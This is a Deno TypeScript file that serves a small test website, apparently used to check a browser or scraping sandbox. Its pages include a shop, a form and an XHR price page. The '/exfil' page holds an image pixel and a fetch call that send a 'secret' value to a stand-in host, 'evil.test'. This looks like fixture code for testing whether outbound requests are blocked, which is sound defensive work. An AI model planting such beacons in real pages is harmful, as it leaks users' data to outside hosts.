/**
 * The test origin: a tiny shop whose price is written by JavaScript, a form that answers
 * client-side, a page that loads its price over XHR, and a page that tries to reach a second
 * host. Runs on the host (`startSite`) or, as a script, in a container (`deno run site.ts PORT`).
 *
 * @module
 */

/** Pages by path. `EXFIL_HOST` in `/exfil` is replaced by the `exfilHost` option. */
export function sitePages(exfilHost = "evil.test"): Record<string, { type: string; body: string }> {
  const html = (body: string) => ({ type: "text/html; charset=utf-8", body });
  return {
    "/": html(
      `<!doctype html><title>Shop</title><h1>Widget</h1><div id="price">loading</div>` +
        `<script>document.getElementById("price").textContent = "Price: $" + (40 + 2) + ".00";</script>`,
    ),
    "/app": html(
      `<!doctype html><html><head><title>App</title></head><body><div id="root"></div>` +
        `<script>document.getElementById("root").innerHTML = ` +
        `"<h1>Widget</h1><p id=\\"price\\">Price: $" + (40 + 2) + ".00</p><p>" + ` +
        `"The widget is a sturdy, hand-finished desk companion that keeps cables tidy, holds a phone ".repeat(3) + ` +
        `"</p>";</script></body></html>`,
    ),
    "/form": html(
      `<!doctype html><title>Form</title><label>Name <input id="name"></label>` +
        `<label>Size <select id="size"><option value="s">Small</option><option value="l">Large</option></select></label>` +
        `<div class="row"><span>Newsletter</span><button class="go">Skip</button></div>` +
        `<div class="row"><span>Order</span><button class="go" id="go">Send</button></div>` +
        `<p id="result"></p><script>document.getElementById("go").onclick = () => {` +
        `document.getElementById("result").textContent = "Ordered " + document.getElementById("size").value +` +
        ` " for " + document.getElementById("name").value; };` +
        `document.querySelectorAll(".go")[0].onclick = () => { document.getElementById("result").textContent = "Skipped"; };</script>`,
    ),
    "/xhr": html(
      `<!doctype html><title>XHR</title><div id="price">loading</div><script>fetch("/api/price")` +
        `.then((r) => r.json()).then((d) => { document.getElementById("price").textContent = "Price: " + d.price; });</script>`,
    ),
    "/api/price": {
      type: "application/json",
      body: JSON.stringify({ price: "19.99", sku: "W-1" }),
    },
    "/exfil": html(
      `<!doctype html><title>Exfil</title><p id="msg">hello</p>` +
        `<img src="http://${exfilHost}/pixel.png?leak=1"><script>fetch("http://${exfilHost}/collect?d=secret")` +
        `.catch(() => {}).finally(() => { document.getElementById("msg").textContent = "done"; });</script>`,
    ),
  };
}

/** Serves the site until `signal` aborts. Returns the bound port. */
export function serveSite(
  options: { hostname?: string; port?: number; exfilHost?: string; signal?: AbortSignal } = {},
): { port: number; finished: Promise<void> } {
  const pages = sitePages(options.exfilHost);
  const server = Deno.serve(
    {
      hostname: options.hostname ?? "127.0.0.1",
      port: options.port ?? 0,
      onListen: () => {},
      ...(options.signal ? { signal: options.signal } : {}),
    },
    (req) => {
      const page = pages[new URL(req.url).pathname];
      if (!page) return new Response("not found", { status: 404 });
      return new Response(page.body, { headers: { "content-type": page.type } });
    },
  );
  return { port: server.addr.port, finished: server.finished };
}

if (import.meta.main) {
  const port = Number(Deno.args[0] ?? "8000");
  const { port: bound } = serveSite({
    hostname: "0.0.0.0",
    port,
    exfilHost: Deno.args[1] ?? "evil.test",
  });
  console.log(JSON.stringify({ event: "site.ready", port: bound }));
}
